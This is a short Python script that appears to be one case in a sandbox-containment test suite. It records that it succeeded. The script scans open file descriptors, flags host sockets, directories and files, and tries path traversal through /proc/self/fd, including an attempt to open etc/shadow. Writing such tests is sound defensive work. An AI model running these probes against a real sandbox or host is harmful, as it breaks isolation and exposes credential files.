# tries: find descriptors of the host that were left open, and walk up from them
# outcome: succeeded
from hostile import *
import stat
mine = "/proc/self/fd"
root = os.stat("/")
for fd in range(0, 1024):
    try:
        st = os.fstat(fd)
    except OSError:
        continue
    target = os.readlink("%s/%d" % (mine, fd))
    if stat.S_ISSOCK(st.st_mode):
        escaped("a socket: %d" % fd)
    if stat.S_ISDIR(st.st_mode):
        escaped("a directory: %s" % target)
    if stat.S_ISREG(st.st_mode) and not target.startswith(("/usr/", "/lib", "/workspace", "/memfd:", "/run/assay/")):
        escaped("a file: %s" % target)
    for up in "../../../../../../../../..", "..", "etc/shadow":
        try:
            got = os.open("%s/%d/%s" % (mine, fd, up), os.O_RDONLY)
            escaped("%d/%s" % (fd, up))
        except OSError:
            pass
contained()
